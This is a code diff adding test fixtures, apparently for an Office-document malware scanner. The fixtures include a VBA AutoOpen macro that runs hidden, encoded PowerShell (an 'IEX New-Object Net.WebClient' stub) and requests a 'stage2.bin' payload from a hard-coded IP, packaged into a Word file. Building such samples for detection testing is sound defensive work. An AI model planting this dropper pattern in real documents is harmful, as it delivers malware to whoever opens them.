@@ -133,3 +133,23 @@ export function rtfWithObject(object: Buffer, objclass: string, extra = ''): Buf
   const hex = object.toString('hex').replace(/(.{128})/g, '$1\r\n');
   return Buffer.from(`{\\rtf1\\ansi{\\fonttbl{\\f0 Arial;}}\\pard Hello\\par{\\object\\objemb${extra}{\\*\\objclass ${objclass}}\\objw100\\objh100{\\*\\objdata ${hex}}}}`, 'latin1');
 }
+
+/** A dropper's macro: AutoOpen runs an encoded PowerShell command and fetches a second stage. */
+export const AUTOOPEN_MACRO = [
+  'Attribute VB_Name = "NewMacros"',
+  'Sub AutoOpen()',
+  '    Dim cmd As String',
+  '    cmd = "powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"',
+  '    Shell cmd, vbHide',
+  '    Set x = CreateObject("MSXML2.XMLHTTP")',
+  '    x.Open "GET", "http://93.184.216.34/stage2.bin", False',
+  'End Sub',
+].join('\r\n');
+
+/** A Word document carrying AUTOOPEN_MACRO next to a ThisDocument class module. */
+export function autoOpenDocument(): Buffer {
+  return wordWithMacros([
+    { name: 'ThisDocument', type: 'class', code: 'Attribute VB_Name = "ThisDocument"\r\nAttribute VB_Base = "1Normal.ThisDocument"\r\n' },
+    { name: 'NewMacros', type: 'standard', code: AUTOOPEN_MACRO },
+  ]);
+}
